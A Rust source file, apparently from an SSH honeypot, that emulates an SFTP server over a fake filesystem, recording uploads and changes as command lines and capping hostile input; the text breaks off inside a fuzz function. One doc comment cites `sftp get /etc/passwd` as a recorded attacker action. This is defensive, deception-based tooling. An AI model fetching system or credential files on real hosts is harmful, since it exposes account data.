//! The SFTP subsystem (protocol version 3: what OpenSSH's `sftp` and `scp`, and paramiko
//! speak) over a session's fake filesystem. A hand-written state machine fed the channel's
//! bytes as they come: a packet is a u32 length, a type, a request id and its fields.
//!
//! Files written and closed are kept in the session's overlay and recorded as uploads with
//! their SHA-256, the way an `scp -t` upload is ([`Shell::upload`]); every request that
//! changes something is recorded as a command line (`sftp put /tmp/x`, `sftp rm /tmp/x`).
//! Reads serve the fake files' bytes. Nothing is executed and nothing is fetched.
//!
//! Hostile input: a packet longer than [`MAX_PACKET`], shorter than its fields say, with a
//! NUL in a path, or anything before `INIT` closes the channel ([`Note::Limit`] `"sftp"`);
//! nothing panics. Handles open at once, the bytes they hold and the bytes reads serve are
//! capped. An unknown request is answered `SSH_FX_OP_UNSUPPORTED`.

use crate::shell::fs::{join, split, Errno, Kind, Node};
use crate::shell::{group, owner, util, Shell, Upload};

/// Longest packet accepted (OpenSSH's sftp-server's limit too).
pub const MAX_PACKET: usize = 256 * 1024;
/// Handles open at once in one SFTP session.
pub const MAX_HANDLES: usize = 16;
/// Bytes one READ answers at most.
const MAX_READ: usize = 64 * 1024;
/// Bytes of a file kept for reading.
const MAX_READ_FILE: usize = 2 * 1024 * 1024;
/// Bytes all open handles may hold at once.
const MAX_HELD: usize = 4 * 1024 * 1024;
/// Bytes reads may serve in one session.
const MAX_SERVED: u64 = 16 * 1024 * 1024;
/// Entries per READDIR answer (OpenSSH's).
const DIR_BATCH: usize = 100;
/// The umask new files and directories get (sshd's default).
const UMASK: u16 = 0o022;

// packet types
const INIT: u8 = 1;
const VERSION: u8 = 2;
const OPEN: u8 = 3;
const CLOSE: u8 = 4;
const READ: u8 = 5;
const WRITE: u8 = 6;
const LSTAT: u8 = 7;
const FSTAT: u8 = 8;
const SETSTAT: u8 = 9;
const FSETSTAT: u8 = 10;
const OPENDIR: u8 = 11;
const READDIR: u8 = 12;
const REMOVE: u8 = 13;
const MKDIR: u8 = 14;
const RMDIR: u8 = 15;
const REALPATH: u8 = 16;
const STAT: u8 = 17;
const RENAME: u8 = 18;
const READLINK: u8 = 19;
const SYMLINK: u8 = 20;
const STATUS: u8 = 101;
const HANDLE: u8 = 102;
const DATA: u8 = 103;
const NAME: u8 = 104;
const ATTRS: u8 = 105;

// status codes
const FX_OK: u32 = 0;
const FX_EOF: u32 = 1;
const FX_NO_SUCH_FILE: u32 = 2;
const FX_PERMISSION_DENIED: u32 = 3;
const FX_FAILURE: u32 = 4;
const FX_BAD_MESSAGE: u32 = 5;
const FX_OP_UNSUPPORTED: u32 = 8;

// OPEN flags
const FXF_READ: u32 = 0x01;
const FXF_WRITE: u32 = 0x02;
const FXF_APPEND: u32 = 0x04;
const FXF_CREAT: u32 = 0x08;
const FXF_TRUNC: u32 = 0x10;
const FXF_EXCL: u32 = 0x20;

// attribute flags
const ATTR_SIZE: u32 = 0x01;
const ATTR_UIDGID: u32 = 0x02;
const ATTR_PERMISSIONS: u32 = 0x04;
const ATTR_ACMODTIME: u32 = 0x08;
const ATTR_EXTENDED: u32 = 0x8000_0000;

/// Something worth recording that the SFTP session did.
#[derive(Debug, Clone, PartialEq)]
pub enum Note {
    /// A change asked for (or a file fetched), as a command line: `sftp put /tmp/x`,
    /// `sftp get /etc/passwd`, `sftp rm /tmp/x`, `sftp chmod 755 /tmp/x`…
    Command(String),
    /// A file written and closed: kept in the overlay as an scp upload is.
    Upload(Upload),
    /// A cap was hit: `sftp` (a malformed or oversized packet; the channel closes),
    /// `sftp_handles` (too many handles open), `sftp_read` (the session's read budget).
    Limit(&'static str),
}

/// What feeding bytes to an [`Sftp`] gave.
#[derive(Debug, Default)]
pub struct Output {
    /// The answers, to send on the channel.
    pub reply: Vec<u8>,
    pub notes: Vec<Note>,
    /// The client broke the protocol: close the channel.
    pub close: bool,
}

/// The attributes a request carries.
#[derive(Debug, Default, Clone, Copy)]
struct Attrs {
    size: Option<u64>,
    uidgid: Option<(u32, u32)>,
    perm: Option<u32>,
    /// (atime, mtime)
    times: Option<(u32, u32)>,
}

/// A file open on a handle: its bytes (what it held when opened, then what was written).
#[derive(Debug)]
struct File {
    /// Canonical path.
    path: String,
    data: Vec<u8>,
    read: bool,
    write: bool,
    append: bool,
    /// Written, created or truncated: kept and recorded at close.
    commit: bool,
    /// A device (`/dev/null`): what is written goes nowhere.
    dev: bool,
    /// The mtime an FSETSTAT asked for, set again after the bytes are kept.
    mtime: Option<i64>,
}

#[derive(Debug)]
enum Handle {
    File(File),
    /// A directory being listed: its canonical path and the names still to send.
    Dir {
        path: String,
        names: Vec<String>,
        next: usize,
    },
}

/// The protocol broke: the channel closes.
struct Bad;

/// One SFTP session (one channel's subsystem).
#[derive(Debug)]
pub struct Sftp {
    /// Bytes of a packet not complete yet.
    buf: Vec<u8>,
    init: bool,
    /// Closed after a protocol error: nothing more is read.
    dead: bool,
    handles: Vec<(u32, Handle)>,
    next_handle: u32,
    /// Bytes served by reads.
    served: u64,
    /// Limits already recorded (one note each per session).
    noted: u8,
    /// Bytes kept of one upload (the shell's `max_upload`).
    max_upload: usize,
}

impl Sftp {
    /// A session whose uploads keep at most `max_upload` bytes (as scp's).
    pub fn new(max_upload: usize) -> Sftp {
        Sftp {
            buf: Vec::new(),
            init: false,
            dead: false,
            handles: Vec::new(),
            next_handle: 0,
            served: 0,
            noted: 0,
            max_upload,
        }
    }

    /// Handles open now.
    pub fn open_handles(&self) -> usize {
        self.handles.len()
    }

    /// Takes the channel's next bytes: the answers to every packet they complete.
    pub fn feed(&mut self, sh: &mut Shell, data: &[u8]) -> Output {
        let mut out = Output::default();
        if self.dead {
            return out;
        }
        let mut buf = std::mem::take(&mut self.buf);
        buf.extend_from_slice(data);
        let mut at = 0;
        while buf.len() - at >= 4 {
            let len = u32::from_be_bytes([buf[at], buf[at + 1], buf[at + 2], buf[at + 3]]) as usize;
            // a type and a request id (or INIT's version) at least
            if !(5..=MAX_PACKET).contains(&len) {
                self.kill(sh, &mut out);
                break;
            }
            if buf.len() - at - 4 < len {
                break;
            }
            let pkt = &buf[at + 4..at + 4 + len];
            at += 4 + len;
            if self.packet(sh, pkt, &mut out).is_err() {
                self.kill(sh, &mut out);
                break;
            }
        }
        if self.dead {
            buf = Vec::new();
        } else {
            buf.drain(..at);
            if buf.is_empty() && buf.capacity() > 64 * 1024 {
                buf = Vec::new();
            }
        }
        self.buf = buf;
        out
    }

    /// The channel ends: files still open for writing are kept and recorded, as a real
    /// server's writes stay when its client goes away.
    pub fn finish(&mut self, sh: &mut Shell) -> Vec<Note> {
        let mut notes = Vec::new();
        for (_, h) in std::mem::take(&mut self.handles) {
            if let Handle::File(f) = h {
                let _ = commit(sh, f, &mut notes);
            }
        }
        self.buf = Vec::new();
        notes
    }

    /// A protocol error: record it, keep what was written, read nothing more.
    fn kill(&mut self, sh: &mut Shell, out: &mut Output) {
        self.dead = true;
        out.close = true;
        out.notes.push(Note::Limit("sftp"));
        let notes = self.finish(sh);
        out.notes.extend(notes);
    }

    /// Records a limit once per session.
    fn limit(&mut self, what: &'static str, bit: u8, out: &mut Output) {
        if self.noted & bit == 0 {
            self.noted |= bit;
            out.notes.push(Note::Limit(what));
        }
    }

    /// Bytes the open handles hold.
    fn held(&self) -> usize {
        self.handles
            .iter()
            .map(|(_, h)| match h {
                Handle::File(f) => f.data.len(),
                Handle::Dir { names, .. } => names.iter().map(|n| n.len() + 24).sum(),
            })
            .sum()
    }

    fn handle(&mut self, h: &[u8]) -> Option<&mut Handle> {
        let h = key(h)?;
        self.handles
            .iter_mut()
            .find(|(k, _)| *k == h)
            .map(|(_, x)| x)
    }

    fn add_handle(&mut self, h: Handle) -> u32 {
        let k = self.next_handle;
        self.next_handle = self.next_handle.wrapping_add(1);
        self.handles.push((k, h));
        k
    }

    /// One whole packet.
    fn packet(&mut self, sh: &mut Shell, pkt: &[u8], out: &mut Output) -> Result<(), Bad> {
        let mut r = Rd(pkt);
        let ty = r.u8()?;
        if !self.init {
            // nothing before INIT (OpenSSH's server exits)
            if ty != INIT {
                return Err(Bad);
            }
            let _version = r.u32()?;
            self.init = true;
            put_packet(&mut out.reply, VERSION, |b| put_u32(b, 3));
            return Ok(());
        }
        if ty == INIT {
            return Err(Bad);
        }
        let id = r.u32()?;
        let o = &mut out.reply;
        match ty {
            OPEN => {
                let path = r.path()?;
                let pflags = r.u32()?;
                let a = r.attrs()?;
                self.open(sh, id, &path, pflags, a, out);
            }
            CLOSE => {
                let h = r.bytes()?;
                let at = key(h).and_then(|k| self.handles.iter().position(|(x, _)| *x == k));
                let code = match at.map(|i| self.handles.remove(i).1) {
                    None => FX_FAILURE,
                    Some(Handle::File(f)) => {
                        commit(sh, f, &mut out.notes).map_or_else(code_of, |_| FX_OK)
                    }
                    Some(Handle::Dir { .. }) => FX_OK,
                };
                status(&mut out.reply, id, code);
            }
            READ => {
                let h = r.bytes()?;
                let off = r.u64()?;
                let len = r.u32()? as usize;
                self.read(id, h, off, len, out);
            }
            WRITE => {
                let h = r.bytes()?;
                let off = r.u64()?;
                let data = r.bytes()?;
                let room = MAX_HELD.saturating_sub(self.held());
                let max_upload = self.max_upload;
                let code = match self.handle(h) {
                    Some(Handle::File(f)) if f.write => {
                        f.commit |= !f.dev;
                        if !f.dev {
                            let cap = max_upload.min(f.data.len() + room);
                            let pos = if f.append { f.data.len() as u64 } else { off };
                            // past the cap the bytes are dropped (an upload's cut, as scp's)
                            if pos < cap as u64 {
                                let pos = pos as usize;
                                let end = (pos + data.len()).min(cap);
                                if end > f.data.len() {
                                    f.data.resize(end, 0);
                                }
                                f.data[pos..end].copy_from_slice(&data[..end - pos]);
                            }
                        }
                        FX_OK
                    }
                    // EBADF
                    Some(Handle::File(_)) => FX_NO_SUCH_FILE,
                    _ => FX_FAILURE,
                };
                status(o, id, code);
            }
            STAT | LSTAT => {
                let path = r.path()?;
                match abs_of(sh, &path) {
                    None => status(o, id, FX_NO_SUCH_FILE),
                    Some(abs) => {
                        let f = sh.fs();
                        match f.stat(&abs, ty == STAT) {
                            Ok((_, n)) => attrs_reply(o, id, &Meta::of(n)),
                            Err(e) => status(o, id, code_of(e)),
                        }
                    }
                }
            }
            FSTAT => {
                let h = r.bytes()?;
                let (path, size) = match self.handle(h) {
                    Some(Handle::File(f)) => (
                        f.path.clone(),
                        (f.write && f.commit).then_some(f.data.len() as u64),
                    ),
                    Some(Handle::Dir { path, .. }) => (path.clone(), None),
                    None => {
                        status(o, id, FX_FAILURE);
                        return Ok(());
                    }
                };
                let f = sh.fs();
                match f.stat(&path, true) {
                    Ok((_, n)) => {
                        let mut m = Meta::of(n);
                        if let Some(s) = size {
                            m.size = s;
                        }
                        attrs_reply(o, id, &m)
                    }
                    Err(e) => status(o, id, code_of(e)),
                }
            }
            SETSTAT => {
                let path = r.path()?;
                let a = r.attrs()?;
                let code = match abs_of(sh, &path) {
                    None => FX_NO_SUCH_FILE,
                    Some(abs) => {
                        let abs = shown(sh, &abs, true);
                        setstat(sh, &abs, None, a, &mut out.notes)
                    }
                };
                status(&mut out.reply, id, code);
            }
            FSETSTAT => {
                let h = r.bytes()?;
                let a = r.attrs()?;
                let room = MAX_HELD.saturating_sub(self.held());
                let max_upload = self.max_upload;
                let code = match self.handle(h) {
                    Some(Handle::File(f)) => {
                        let path = f.path.clone();
                        let cap = max_upload.min(f.data.len() + room);
                        setstat(sh, &path, Some((f, cap)), a, &mut out.notes)
                    }
                    Some(Handle::Dir { path, .. }) => {
                        let path = path.clone();
                        setstat(sh, &path, None, a, &mut out.notes)
                    }
                    None => FX_FAILURE,
                };
                status(&mut out.reply, id, code);
            }
            OPENDIR => {
                let path = r.path()?;
                self.opendir(sh, id, &path, out);
            }
            READDIR => {
                let h = r.bytes()?;
                self.readdir(sh, id, h, out);
            }
            REMOVE | RMDIR => {
                let path = r.path()?;
                let code = match abs_of(sh, &path) {
                    None => FX_NO_SUCH_FILE,
                    Some(abs) => {
                        let p = shown(sh, &abs, false);
                        let verb = if ty == REMOVE { "rm" } else { "rmdir" };
                        out.notes.push(Note::Command(format!("sftp {verb} {p}")));
                        let mut f = sh.fs();
                        let r = if ty == REMOVE {
                            f.unlink(&abs)
                        } else {
                            f.rmdir(&abs)
                        };
                        r.map_or_else(code_of, |_| FX_OK)
                    }
                };
                status(&mut out.reply, id, code);
            }
            MKDIR => {
                let path = r.path()?;
                let a = r.attrs()?;
                let code = match abs_of(sh, &path) {
                    None => FX_NO_SUCH_FILE,
                    Some(abs) => {
                        let p = shown(sh, &abs, false);
                        out.notes.push(Note::Command(format!("sftp mkdir {p}")));
                        let mode = a.perm.map_or(0o777, |p| (p & 0o7777) as u16) & !UMASK;
                        sh.fs()
                            .create(&abs, Kind::Dir, mode)
                            .map_or_else(code_of, |_| FX_OK)
                    }
                };
                status(&mut out.reply, id, code);
            }
            REALPATH => {
                // (v6 clients add a control byte and paths to compose: ignored)
                let path = r.path()?;
                let abs = sh.abs(if path.is_empty() { "." } else { &path });
                let f = sh.fs();
                match f.resolve(&abs, true) {
                    Ok(res) => name_reply(o, id, &[(res.path.clone(), res.path, None)]),
                    Err(e) => status(o, id, code_of(e)),
                }
            }
            RENAME => {
                let from = r.path()?;
                let to = r.path()?;
                let code = match (abs_of(sh, &from), abs_of(sh, &to)) {
                    (Some(a), Some(b)) => {
                        let (pa, pb) = (shown(sh, &a, false), shown(sh, &b, false));
                        out.notes
                            .push(Note::Command(format!("sftp rename {pa} {pb}")));
                        let mut f = sh.fs();
                        match f.stat(&b, false) {
                            // OpenSSH's server links then unlinks: an existing target fails
                            Ok(_) => FX_FAILURE,
                            Err(_) => f.rename(&a, &b).map_or_else(code_of, |_| FX_OK),
                        }
                    }
                    _ => FX_NO_SUCH_FILE,
                };
                status(&mut out.reply, id, code);
            }
            READLINK => {
                let path = r.path()?;
                match abs_of(sh, &path) {
                    None => status(o, id, FX_NO_SUCH_FILE),
                    Some(abs) => {
                        let f = sh.fs();
                        match f.stat(&abs, false) {
                            Ok((_, n)) => match &n.kind {
                                Kind::Link(t) => {
                                    name_reply(o, id, &[(t.to_string(), t.to_string(), None)])
                                }
                                // EINVAL
                                _ => status(o, id, FX_BAD_MESSAGE),
                            },
                            Err(e) => status(o, id, code_of(e)),
                        }
                    }
                }
            }
            SYMLINK => {
                // OpenSSH's order (the draft's reversed): the target, then the link
                let target = r.path()?;
                let link = r.path()?;
                let code = match abs_of(sh, &link) {
                    Some(abs) if !target.is_empty() => {
                        let p = shown(sh, &abs, false);
                        out.notes
                            .push(Note::Command(format!("sftp ln -s {target} {p}")));
                        sh.fs()
                            .create(&abs, Kind::Link(target.into()), 0o777)
                            .map_or_else(code_of, |_| FX_OK)
                    }
                    _ => FX_NO_SUCH_FILE,
                };
                status(&mut out.reply, id, code);
            }
            _ => status(o, id, FX_OP_UNSUPPORTED),
        }
        Ok(())
    }

    fn open(
        &mut self,
        sh: &mut Shell,
        id: u32,
        path: &str,
        pflags: u32,
        a: Attrs,
        out: &mut Output,
    ) {
        let o = &mut out.reply;
        let Some(abs) = abs_of(sh, path) else {
            return status(o, id, FX_NO_SUCH_FILE);
        };
        let write = pflags & FXF_WRITE != 0;
        let read = pflags & FXF_READ != 0 || !write;
        let (creat, trunc, excl) = (
            pflags & FXF_CREAT != 0,
            pflags & FXF_TRUNC != 0,
            pflags & FXF_EXCL != 0,
        );
        let resolved = {
            let f = sh.fs();
            f.resolve(&abs, true).map(|r| {
                let what = r.node.map(|n| {
                    (
                        n.is_dir(),
                        matches!(n.kind, Kind::Dev(_)),
                        f.cred.may(n, 4),
                        f.cred.may(n, 2),
                    )
                });
                (r.path, what)
            })
        };
        let shown_path = resolved.as_ref().map_or(abs.as_str(), |(p, _)| p.as_str());
        let verb = if write { "put" } else { "get" };
        out.notes
            .push(Note::Command(format!("sftp {verb} {shown_path}")));
        let (canon, what) = match resolved {
            Ok(x) => x,
            Err(e) => return status(o, id, code_of(e)),
        };
        if self.handles.len() >= MAX_HANDLES {
            self.limit("sftp_handles", 1, out);
            return status(&mut out.reply, id, FX_FAILURE);
        }
        let code = match what {
            Some(_) if creat && excl => Some(FX_FAILURE),
            // EISDIR
            Some((true, ..)) => Some(FX_FAILURE),
            Some((_, _, may_r, may_w)) if (read && !may_r) || (write && !may_w) => {
                Some(FX_PERMISSION_DENIED)
            }
            None if !creat => Some(FX_NO_SUCH_FILE),
            _ => None,
        };
        if let Some(c) = code {
            return status(o, id, c);
        }
        let dev = what.is_some_and(|w| w.1);
        let may_r = what.is_some_and(|w| w.2);
        let created = !dev && (what.is_none() || (write && trunc));
        if created {
            let mode = a.perm.map_or(0o666, |p| (p & 0o7777) as u16) & !UMASK;
            if let Err(e) = sh.fs().write(&canon, b"", false, mode) {
                return status(o, id, code_of(e));
            }
        }
        let data = if created || !may_r {
            Vec::new()
        } else {
            let cap = if write {
                self.max_upload
            } else {
                MAX_READ_FILE
            };
            let room = MAX_HELD.saturating_sub(self.held());
            let readable = sh.fs().read(&canon);
            match readable {
                Ok((_, r)) => sh.materialize(r, cap.min(room)),
                Err(e) => return status(o, id, code_of(e)),
            }
        };
        let h = self.add_handle(Handle::File(File {
            path: canon,
            data,
            read,
            write,
            append: pflags & FXF_APPEND != 0,
            commit: created && write,
            dev,
            mtime: None,
        }));
        handle_reply(&mut out.reply, id, h);
    }

    fn read(&mut self, id: u32, h: &[u8], off: u64, len: usize, out: &mut Output) {
        let served = self.served;
        let n = match self.handle(h) {
            Some(Handle::File(f)) if f.read => {
                if served >= MAX_SERVED {
                    None
                } else if off >= f.data.len() as u64 || len == 0 {
                    Some(Err(FX_EOF))
                } else {
                    let off = off as usize;
                    let end = f.data.len().min(off + len.min(MAX_READ));
                    put_packet(&mut out.reply, DATA, |b| {
                        put_u32(b, id);
                        put_bytes(b, &f.data[off..end]);
                    });
                    Some(Ok(end - off))
                }
            }
            // EBADF
            Some(Handle::File(_)) => Some(Err(FX_NO_SUCH_FILE)),
            _ => Some(Err(FX_FAILURE)),
        };
        match n {
            Some(Ok(n)) => self.served += n as u64,
            Some(Err(c)) => status(&mut out.reply, id, c),
            None => {
                self.limit("sftp_read", 2, out);
                status(&mut out.reply, id, FX_FAILURE);
            }
        }
    }

    fn opendir(&mut self, sh: &mut Shell, id: u32, path: &str, out: &mut Output) {
        let o = &mut out.reply;
        let Some(abs) = abs_of(sh, path) else {
            return status(o, id, FX_NO_SUCH_FILE);
        };
        let listed = {
            let f = sh.fs();
            f.list(&abs).and_then(|l| {
                let canon = f.resolve(&abs, true)?.path;
                let mut names = vec![".".to_string(), "..".to_string()];
                names.extend(l.into_iter().map(|(n, _)| n));
                Ok((canon, names))
            })
        };
        match listed {
            Err(e) => status(o, id, code_of(e)),
            Ok(_) if self.handles.len() >= MAX_HANDLES => {
                self.limit("sftp_handles", 1, out);
                status(&mut out.reply, id, FX_FAILURE);
            }
            Ok((path, names)) => {
                let h = self.add_handle(Handle::Dir {
                    path,
                    names,
                    next: 0,
                });
                handle_reply(&mut out.reply, id, h);
            }
        }
    }

    fn readdir(&mut self, sh: &mut Shell, id: u32, h: &[u8], out: &mut Output) {
        let (dir, batch) = match self.handle(h) {
            Some(Handle::Dir { path, names, next }) => {
                let end = names.len().min(*next + DIR_BATCH);
                let batch: Vec<String> = names[(*next).min(end)..end].to_vec();
                *next = end;
                (path.clone(), batch)
            }
            _ => return status(&mut out.reply, id, FX_FAILURE),
        };
        if batch.is_empty() {
            return status(&mut out.reply, id, FX_EOF);
        }
        // the entries' attributes (lstat, as OpenSSH's server), links counted for `ls -l`
        let metas: Vec<(String, Meta, usize)> = {
            let f = sh.fs();
            batch
                .into_iter()
                .filter_map(|name| {
                    let full = match name.as_str() {
                        "." => dir.clone(),
                        ".." => split(&dir).0.to_string(),
                        n => join(&dir, n),
                    };
                    let (_, n) = f.stat(&full, false).ok()?;
                    let links = if n.is_dir() {
                        2 + f
                            .list(&full)
                            .map_or(0, |l| l.iter().filter(|(_, c)| c.is_dir()).count())
                    } else {
                        1
                    };
                    Some((name, Meta::of(n), links))
                })
                .collect()
        };
        let now = util::now();
        let entries: Vec<(String, String, Option<Meta>)> = metas
            .into_iter()
            .map(|(name, m, links)| {
                let long = format!(
                    "{}  {links:>3} {:<8} {:<8} {:>8} {} {name}",
                    m.mode_string,
                    owner(sh, m.uid),
                    group(sh, m.gid),
                    m.size,
                    util::ls_time(m.mtime, now),
                );
                (name, long, Some(m))
            })
            .collect();
        name_reply(&mut out.reply, id, &entries);
    }
}

/// SETSTAT and FSETSTAT: applies attributes to `path` (and to the open file `file`, with
/// the bytes it may hold): size, permissions, times, owner, in OpenSSH's order; the last
/// error, as OpenSSH's server answers.
fn setstat(
    sh: &mut Shell,
    path: &str,
    mut file: Option<(&mut File, usize)>,
    a: Attrs,
    notes: &mut Vec<Note>,
) -> u32 {
    let (root, me) = (sh.is_root(), sh.uid());
    let (uid, gid, may_w, is_dir) = {
        let f = sh.fs();
        match f.stat(path, true) {
            Ok((_, n)) => (n.uid, n.gid, f.cred.may(n, 2), n.is_dir()),
            Err(e) => return code_of(e),
        }
    };
    let owner_ok = root || me == uid;
    let mut code = FX_OK;
    if let Some(size) = a.size {
        notes.push(Note::Command(format!("sftp truncate {size} {path}")));
        match &mut file {
            Some((f, _)) if !f.write => code = FX_NO_SUCH_FILE,
            Some((f, cap)) => {
                if !f.dev {
                    let keep = (*cap).max(f.data.len());
                    f.data.resize(size.min(keep as u64) as usize, 0);
                    f.commit = true;
                }
            }
            None if is_dir => code = FX_FAILURE,
            None if !may_w => code = FX_PERMISSION_DENIED,
            None => {
                let r = {
                    let f = sh.fs();
                    f.read(path)
                };
                let res = r.and_then(|(_, r)| {
                    let mut bytes = sh.materialize(r, MAX_READ_FILE);
                    bytes.resize(size.min(MAX_READ_FILE as u64) as usize, 0);
                    sh.fs().write(path, &bytes, false, 0o644).map(|_| ())
                });
                if let Err(e) = res {
                    code = code_of(e);
                }
            }
        }
    }
    if let Some(p) = a.perm {
        let mode = (p & 0o7777) as u16;
        notes.push(Note::Command(format!("sftp chmod {mode:o} {path}")));
        if !owner_ok {
            code = FX_PERMISSION_DENIED;
        } else if let Err(e) = sh.fs().modify(path, true, |n| n.mode = mode) {
            code = code_of(e);
        }
    }
    if let Some((_, mtime)) = a.times {
        notes.push(Note::Command(format!("sftp utime {mtime} {path}")));
        if !owner_ok {
            code = FX_PERMISSION_DENIED;
        } else {
            let t = i64::from(mtime);
            if let Some((f, _)) = &mut file {
                f.mtime = Some(t);
            }
            if let Err(e) = sh.fs().modify(path, true, |n| n.mtime = t) {
                code = code_of(e);
            }
        }
    }
    if let Some((u, g)) = a.uidgid {
        notes.push(Note::Command(format!("sftp chown {u}:{g} {path}")));
        if !root && (u != uid || g != gid) {
            code = FX_PERMISSION_DENIED;
        } else if let Err(e) = sh.fs().modify(path, true, |n| {
            n.uid = u;
            n.gid = g;
        }) {
            code = code_of(e);
        }
    }
    code
}

/// Keeps a closed file's bytes in the overlay and records the upload, exactly as an scp
/// upload ([`Shell::upload`]); a device's (nothing kept) is not recorded.
fn commit(sh: &mut Shell, f: File, notes: &mut Vec<Note>) -> Result<(), Errno> {
    if !f.commit || !f.write || f.dev {
        return Ok(());
    }
    match sh.upload(&f.path, &f.data) {
        Ok(u) => {
            if let Some(t) = f.mtime {
                let _ = sh.fs().modify(&u.path, true, |n| n.mtime = t);
            }
            if !u.sha256.is_empty() {
                notes.push(Note::Upload(u));
            }
            Ok(())
        }
        Err(_) => Err(Errno::NoSpc),
    }
}

/// A handle's key (handles are 4 bytes, as OpenSSH's).
fn key(h: &[u8]) -> Option<u32> {
    Some(u32::from_be_bytes(h.try_into().ok()?))
}

/// An absolute path for what the client sent (relative ones from the working directory,
/// the home directory); None for an empty one (ENOENT).
fn abs_of(sh: &Shell, path: &str) -> Option<String> {
    (!path.is_empty()).then(|| sh.abs(path))
}

/// The canonical form of `abs` when it resolves, for the record; else `abs`.
fn shown(sh: &mut Shell, abs: &str, follow: bool) -> String {
    sh.fs()
        .resolve(abs, follow)
        .map_or_else(|_| abs.to_string(), |r| r.path)
}

/// OpenSSH's `errno_to_portable`.
fn code_of(e: Errno) -> u32 {
    match e {
        Errno::NoEnt | Errno::NotDir | Errno::Loop => FX_NO_SUCH_FILE,
        Errno::Acces | Errno::Perm => FX_PERMISSION_DENIED,
        Errno::NameTooLong | Errno::Inval => FX_BAD_MESSAGE,
        _ => FX_FAILURE,
    }
}

/// What an ATTRS answer and a long name need of a node.
#[derive(Debug, Clone)]
struct Meta {
    /// Type and permission bits (`st_mode`).
    perm: u32,
    uid: u32,
    gid: u32,
    size: u64,
    mtime: i64,
    mode_string: String,
}

impl Meta {
    fn of(n: &Node) -> Meta {
        let t = match &n.kind {
            Kind::Dir => 0o040_000,
            Kind::File(_) => 0o100_000,
            Kind::Link(_) => 0o120_000,
            Kind::Dev(d) if d.block => 0o060_000,
            Kind::Dev(_) => 0o020_000,
        };
        Meta {
            perm: t | u32::from(n.mode & 0o7777),
            uid: n.uid,
            gid: n.gid,
            size: n.size(),
            mtime: n.mtime,
            mode_string: n.mode_string(),
        }
    }
}

/// Reads a packet's fields; [`Bad`] when it is shorter than they say.
struct Rd<'a>(&'a [u8]);

impl<'a> Rd<'a> {
    fn take(&mut self, n: usize) -> Result<&'a [u8], Bad> {
        if self.0.len() < n {
            return Err(Bad);
        }
        let (a, b) = self.0.split_at(n);
        self.0 = b;
        Ok(a)
    }
    fn u8(&mut self) -> Result<u8, Bad> {
        Ok(self.take(1)?[0])
    }
    fn u32(&mut self) -> Result<u32, Bad> {
        let b = self.take(4)?;
        Ok(u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
    }
    fn u64(&mut self) -> Result<u64, Bad> {
        Ok(u64::from(self.u32()?) << 32 | u64::from(self.u32()?))
    }
    fn bytes(&mut self) -> Result<&'a [u8], Bad> {
        let n = self.u32()? as usize;
        self.take(n)
    }
    /// A path: no NUL in it (OpenSSH's server exits on one); other bytes as UTF-8, lossily.
    fn path(&mut self) -> Result<String, Bad> {
        let b = self.bytes()?;
        if b.contains(&0) {
            return Err(Bad);
        }
        Ok(String::from_utf8_lossy(b).into_owned())
    }
    fn attrs(&mut self) -> Result<Attrs, Bad> {
        let flags = self.u32()?;
        let mut a = Attrs::default();
        if flags & ATTR_SIZE != 0 {
            a.size = Some(self.u64()?);
        }
        if flags & ATTR_UIDGID != 0 {
            a.uidgid = Some((self.u32()?, self.u32()?));
        }
        if flags & ATTR_PERMISSIONS != 0 {
            a.perm = Some(self.u32()?);
        }
        if flags & ATTR_ACMODTIME != 0 {
            a.times = Some((self.u32()?, self.u32()?));
        }
        if flags & ATTR_EXTENDED != 0 {
            // each pair takes 8 bytes at least: a huge count runs out of packet quickly
            for _ in 0..self.u32()? {
                self.bytes()?;
                self.bytes()?;
            }
        }
        Ok(a)
    }
}

fn put_u32(b: &mut Vec<u8>, x: u32) {
    b.extend_from_slice(&x.to_be_bytes());
}

fn put_bytes(b: &mut Vec<u8>, s: &[u8]) {
    put_u32(b, s.len() as u32);
    b.extend_from_slice(s);
}

/// A packet of type `ty` whose body `body` writes, its length filled in.
fn put_packet(out: &mut Vec<u8>, ty: u8, body: impl FnOnce(&mut Vec<u8>)) {
    let start = out.len();
    out.extend_from_slice(&[0; 4]);
    out.push(ty);
    body(out);
    let len = (out.len() - start - 4) as u32;
    out[start..start + 4].copy_from_slice(&len.to_be_bytes());
}

/// A STATUS answer with OpenSSH's message for the code.
fn status(out: &mut Vec<u8>, id: u32, code: u32) {
    let msg = match code {
        FX_OK => "Success",
        FX_EOF => "End of file",
        FX_NO_SUCH_FILE => "No such file",
        FX_PERMISSION_DENIED => "Permission denied",
        FX_FAILURE => "Failure",
        FX_BAD_MESSAGE => "Bad message",
        FX_OP_UNSUPPORTED => "Operation unsupported",
        _ => "Unknown error",
    };
    put_packet(out, STATUS, |b| {
        put_u32(b, id);
        put_u32(b, code);
        put_bytes(b, msg.as_bytes());
        put_bytes(b, b"");
    });
}

fn handle_reply(out: &mut Vec<u8>, id: u32, h: u32) {
    put_packet(out, HANDLE, |b| {
        put_u32(b, id);
        put_bytes(b, &h.to_be_bytes());
    });
}

fn put_attrs(b: &mut Vec<u8>, m: Option<&Meta>) {
    let Some(m) = m else {
        return put_u32(b, 0);
    };
    put_u32(
        b,
        ATTR_SIZE | ATTR_UIDGID | ATTR_PERMISSIONS | ATTR_ACMODTIME,
    );
    b.extend_from_slice(&m.size.to_be_bytes());
    put_u32(b, m.uid);
    put_u32(b, m.gid);
    put_u32(b, m.perm);
    let t = m.mtime.clamp(0, i64::from(u32::MAX)) as u32;
    put_u32(b, t);
    put_u32(b, t);
}

fn attrs_reply(out: &mut Vec<u8>, id: u32, m: &Meta) {
    put_packet(out, ATTRS, |b| {
        put_u32(b, id);
        put_attrs(b, Some(m));
    });
}

/// A NAME answer: (file name, long name, attributes) each.
fn name_reply(out: &mut Vec<u8>, id: u32, names: &[(String, String, Option<Meta>)]) {
    put_packet(out, NAME, |b| {
        put_u32(b, id);
        put_u32(b, names.len() as u32);
        for (name, long, m) in names {
            put_bytes(b, name.as_bytes());
            put_bytes(b, long.as_bytes());
            put_attrs(b, m.as_ref());
        }
    });
}

/// Runs arbitrary bytes through an SFTP session (for the fuzz target), in chunks of the sizes
/// the first byte picks, as root or not: it must never panic nor hold more than its caps.
pub fn fuzz(data: &[u8]) {
    use crate::shell::{Identity, Limits, World};
    use std::sync::{Arc, OnceLock};
    static WORLD: OnceLock<Arc<World>> = OnceLock::new();
    let world = WORLD
        .get_or_init(|| World::new(Identity::generate(7)))
        .clone();
    let Some((&first, rest)) = data.split_first() else {
        return;
    };
    let user = if first & 1 == 1 {
        "root"
    } else {
